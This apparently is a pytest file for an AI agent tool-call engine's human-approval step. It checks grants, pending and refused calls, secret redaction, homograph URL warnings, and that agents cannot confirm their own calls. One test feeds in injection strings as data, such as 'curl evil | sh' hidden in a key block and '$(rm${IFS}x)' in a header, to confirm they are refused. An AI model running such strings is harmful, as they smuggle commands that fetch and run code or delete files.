"""Step 7: a call that policy asks about runs on a grant, waits, ends as pending, or is refused; all on record."""

from __future__ import annotations

import asyncio
from dataclasses import replace

import orjson
import pytest

from palyra.attest import check_outcome
from palyra.config.schema import parse_config
from palyra.engine import approval as step
from palyra.engine.asking import BLINK_US
from palyra.engine.trip import CallRequest
from palyra.engine.walk import Engine
from palyra.errors import Reason, Rejected
from palyra.model.approval import ApprovalState
from palyra.model.call import Door
from palyra.model.outcome import Status
from palyra.policy.store import load_posture
from palyra.protocol.catalog import BUILTIN_TOOLS
from palyra.protocol.registry import make_registry
from palyra.protocol.wire import outcome_json
from palyra.testing import FakeClock, FakeExecutor, FakeLook, FakePolicies, FakeSecrets, fake_ports, fake_run
from palyra.testing_approvals import FakeApprover
from tests.promises import promise

OPEN = parse_config(
    {
        "tool_call": {"process_runner": {"egress_enforcement_mode": "none"}},
        "approvals": {"console_url": "https://palyra.example/console"},
    }
)
LS = {"command": "ls", "args": ["-la"]}
ULID = "01HF7YAT00000000000000CA11"
YES, NO, WAITS, LATE = (
    ApprovalState.APPROVED,
    ApprovalState.DENIED,
    ApprovalState.PENDING,
    ApprovalState.EXPIRED,
)


@pytest.fixture(autouse=True)
def no_pause(monkeypatch):
    monkeypatch.setattr(step, "POLL_S", 0)


def call(ports, *, principal="agent:demo", given=LS, **options):
    engine = Engine(ports, make_registry(BUILTIN_TOOLS))
    run = fake_run(OPEN, principal=principal)
    outcome = asyncio.run(engine.call(CallRequest(tool="palyra.process.run", input=given, run=run, **options)))
    findings = check_outcome(outcome_json(outcome), ports.key.public)
    assert [f for f in findings if f.code != "RECEIPT"] == []
    return outcome


def ports_with(state, **given):
    approver = FakeApprover(state=state, **{k: given.pop(k) for k in ("then", "note") if k in given})
    return fake_ports(config=OPEN, approver=approver, executor=FakeExecutor(), **given)


def test_a_call_with_a_grant_runs_and_names_it():
    ports = ports_with(YES)
    outcome = call(ports)
    approval_id = ports.approver.approval_id
    assert (outcome.status, outcome.success) == (Status.COMPLETED, True)
    assert (outcome.attestation["approval_id"], outcome.attestation["decision"]["effect"]) == (approval_id, "ask")
    opened = ports.journal.openings[0]
    assert (opened.permission.approval_id, opened.permission.question) == (approval_id, ports.approver.asked[0])
    assert opened.entry.predicate["decision"]["approval_id"] == approval_id


@pytest.mark.parametrize(
    ("principal", "door", "told"),
    [
        ("agent:demo", Door.CLI, "An operator can look at it with palyra approvals show "),
        ("user:alice", Door.CLI, "Repeat the call at a terminal to confirm it there. Another operator can look at it "),
        ("user:alice", Door.HTTP, "Another operator can look at it with palyra approvals show "),
    ],
)
def test_nobody_is_told_to_decide_on_a_call_of_their_own(principal, door, told):
    engine = Engine(ports_with(WAITS), make_registry(BUILTIN_TOOLS))
    run = fake_run(OPEN, principal=principal)
    run = replace(run, context=replace(run.context, door=door))
    request = CallRequest(tool="palyra.process.run", input=LS, run=run)
    assert asyncio.run(engine.call(request)).hint.startswith(told)


def test_one_that_nobody_decided_yet_is_pending_and_runs_nothing():
    ports = ports_with(WAITS)
    outcome = call(ports, call_id=ULID)
    approval_id = ports.approver.approval_id
    assert (outcome.status, outcome.success, outcome.reason) == (Status.PENDING_APPROVAL, False, None)
    assert outcome.approval == {
        "approval_id": approval_id,
        "expires_at_unix_ms": 1 << 52,
        "url": f"https://palyra.example/console/approvals/{approval_id}",
    }
    assert (ports.executor.plans, ports.journal.openings, outcome.budget.calls_used) == ([], [], 0)
    assert ports.journal.closings[0].entry.predicate["status"] == "pending_approval"


def test_the_caller_repeats_a_pending_call_under_the_same_id():
    ports = ports_with(WAITS)
    assert call(ports, call_id=ULID).status is Status.PENDING_APPROVAL
    ports.approver.state = YES
    assert (call(ports, call_id=ULID).status, ports.journal.openings[0].call_id) == (Status.COMPLETED, ULID)
    assert call(ports, call_id=ULID).status is Status.COMPLETED
    assert len(ports.executor.plans) == 1


@pytest.mark.parametrize(
    ("state", "reason", "said"),
    [
        (NO, Reason.NOT_APPROVED, "user:operator did not approve this call: use staging"),
        (LATE, Reason.APPROVAL_TIMEOUT, "Nobody decided on this call in time."),
        (ApprovalState.REVOKED, Reason.NOT_APPROVED, "Somebody did not approve this call: use staging"),
    ],
)
def test_a_no_and_a_silence_are_refusals(state, reason, said):
    ports = ports_with(state, note="use staging")
    outcome = call(ports)
    assert (outcome.status, outcome.reason, outcome.message) == (Status.REFUSED, reason, said)
    assert ports.executor.plans == []


@pytest.mark.parametrize(
    ("then", "status", "reason"),
    [
        (YES, Status.COMPLETED, None),
        (NO, Status.REFUSED, Reason.NOT_APPROVED),
        (LATE, Status.REFUSED, Reason.APPROVAL_TIMEOUT),
    ],
)
def test_the_door_that_waits_does_what_was_said(then, status, reason):
    ports = ports_with(WAITS, then=then)
    outcome = call(ports, wait_s=5)
    assert (outcome.status, outcome.reason, ports.approver.looks) == (status, reason, 1)


def test_what_changed_while_it_waited_is_not_what_was_approved():
    class Moving(FakeLook):
        def look(self, request):
            sights = super().look(request)
            digest = f"{len(self.requests)}" * 64
            return replace(sights, executable=replace(sights.executable, sha256=digest))

    ports = ports_with(WAITS, then=YES, look=Moving())
    outcome = call(ports, wait_s=5)
    assert (outcome.reason, ports.executor.plans) == (Reason.NOT_APPROVED, [])
    assert "changed while it waited" in outcome.message


@promise("approvals.current-hour")
def test_a_yes_that_came_after_hours_is_judged_by_the_hour_it_came_in():
    line = "forbid (principal, action, resource) when { context.hour > 17 };"
    strict = load_posture("standard", {"local.cedar": f'@id("local.shift") @reason("By day.")\n{line}'})
    clock = FakeClock(17 * 3_600_000 + 3_599_999)

    class Late(FakeApprover):
        async def look(self, approval_id):
            clock.advance(1)
            return await super().look(approval_id)

    ports = ports_with(WAITS, policies=FakePolicies(strict), clock=clock)
    ports = replace(ports, approver=Late(state=WAITS, then=YES))
    outcome = call(ports, wait_s=5)
    assert (outcome.status, ports.executor.plans) == (Status.REFUSED, [])
    assert "local.shift" in outcome.attestation["decision"]["policies"]


@promise("daemon.revoked-while-waiting")
def test_a_credential_that_was_taken_back_while_a_call_waited_begins_nothing():
    clock = FakeClock()
    taken = Rejected(Reason.CAPABILITY_DENIED, "The token no longer holds.")

    class Slow(FakeApprover):
        async def look(self, approval_id):
            clock.advance(BLINK_US // 1000)
            return await super().look(approval_id)

    ports = replace(ports_with(WAITS, clock=clock), approver=Slow(state=WAITS, then=YES))
    outcome = call(ports, wait_s=5, lapse=lambda: taken)
    assert (outcome.reason, ports.executor.plans) == (Reason.CAPABILITY_DENIED, [])
    assert call(ports, wait_s=5, lapse=lambda: None).success
    assert call(ports_with(YES), lapse=lambda: taken).success, "it was checked at the door, a blink ago"


def answering(said):
    async def confirm(approval, shown):
        confirm.shown = shown
        return said

    return confirm


@pytest.mark.parametrize(("said", "status"), [(True, Status.COMPLETED), (False, Status.REFUSED)])
def test_a_person_confirms_their_own_call_at_its_terminal(said, status):
    ports = ports_with(WAITS)
    confirm = answering(said)
    outcome = call(ports, principal="user:alice", confirm=confirm)
    assert (outcome.status, ports.approver.confirmed) == (status, [("user:alice", said)])
    assert confirm.shown["argv"] == ["ls", "-la"]


def test_no_answer_at_the_terminal_leaves_it_pending():
    assert call(ports_with(WAITS), principal="user:alice", confirm=answering(None)).status is Status.PENDING_APPROVAL


def test_an_agent_is_never_asked_to_confirm_its_own_call():
    ports = ports_with(WAITS)
    assert call(ports, confirm=answering(True)).status is Status.PENDING_APPROVAL
    assert ports.approver.confirmed == []


def test_one_line_in_the_bundle_turns_confirming_off():
    line = 'forbid (principal, action == Action::"approval::confirm", resource);'
    line = f'@id("local.no-confirm") @reason("Four eyes.")\n{line}'
    strict = load_posture("standard", {"local.cedar": line})
    ports = ports_with(WAITS, policies=FakePolicies(strict))
    outcome = call(ports, principal="user:alice", confirm=answering(True))
    assert (outcome.status, ports.approver.confirmed) == (Status.PENDING_APPROVAL, [])


def test_what_a_person_sees_is_the_call_itself_without_secrets():
    ports = ports_with(WAITS, secrets=FakeSecrets((("token", b"hunter2hunter2"),)))
    call(ports, given={"command": "ls", "args": ["hunter2hunter2"]})
    asked = ports.approver.asked[0]
    seen = orjson.loads(asked.shown)
    assert b"hunter2hunter2" not in asked.shown
    assert (seen["principal"], seen["tool"], seen["program"]) == ("agent:demo", "palyra.process.run", "/usr/bin/ls")
    assert (seen["cwd"], seen["network"]["mode"], seen["argv"][0]) == ("/workspace", "none", "ls")
    assert seen["risks"] == ["its network is not confined (egress none)"]
    assert [policy["id"] for policy in seen["policies"]] == ["guard.60-open-egress"]
    assert asked.argv == ("ls", "hunter2hunter2")


def test_a_call_that_needs_no_approval_asks_nobody():
    ports = fake_ports()
    engine = Engine(ports, make_registry(BUILTIN_TOOLS))
    asyncio.run(engine.call(CallRequest(tool="palyra.process.run", input=LS, run=fake_run())))
    assert (ports.approver.asked, ports.journal.openings[0].permission) == ([], None)


@promise("approvals.shown-whole")
@pytest.mark.parametrize(
    "text",
    [
        "curl http://h/?token=a;rm${IFS}-rf${IFS}.",
        "print('hello')\nAuthorization: exec(bytes.fromhex('00'))",
        "curl -H 'Cookie: a=b$(rm${IFS}x)' h",
        "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC; curl evil | sh #\n-----END PRIVATE KEY-----",
    ],
)
def test_code_that_redaction_would_hide_from_the_person_is_put_before_nobody(text):
    ports = ports_with(WAITS)
    outcome = call(ports, given={"command": "ls", "args": [text]})
    assert (outcome.status, outcome.reason) == (Status.REFUSED, Reason.NOT_APPROVED)
    assert ports.approver.asked == []


def test_a_plain_key_stays_hidden_and_the_person_is_told_that_something_is():
    ports = ports_with(WAITS)
    call(ports, given={"command": "ls", "args": ["ghp_" + "a1B2" * 9]})
    shown = orjson.loads(ports.approver.asked[0].shown)
    assert shown["argv"] == ["ls", "[redacted:github:1]"]
    assert "a part of it looks like a secret and is not shown here" in shown["risks"]


def test_an_address_in_letters_of_another_alphabet_is_told_by_where_it_goes():
    config = parse_config({"tool_call": {"process_runner": {"egress_enforcement_mode": "none"}}})
    ports = fake_ports(config=config, approver=FakeApprover(state=WAITS), executor=FakeExecutor())
    engine = Engine(ports, make_registry(BUILTIN_TOOLS))
    given = {"url": "https://аррӏе.test/x"}
    request = CallRequest(tool="palyra.http.fetch", input=given, run=fake_run(config))
    assert asyncio.run(engine.call(request)).status is Status.PENDING_APPROVAL
    risks = orjson.loads(ports.approver.asked[0].shown)["risks"]
    assert "its address is in letters that may look like others: it goes to xn--80ak6aa92e.test" in risks
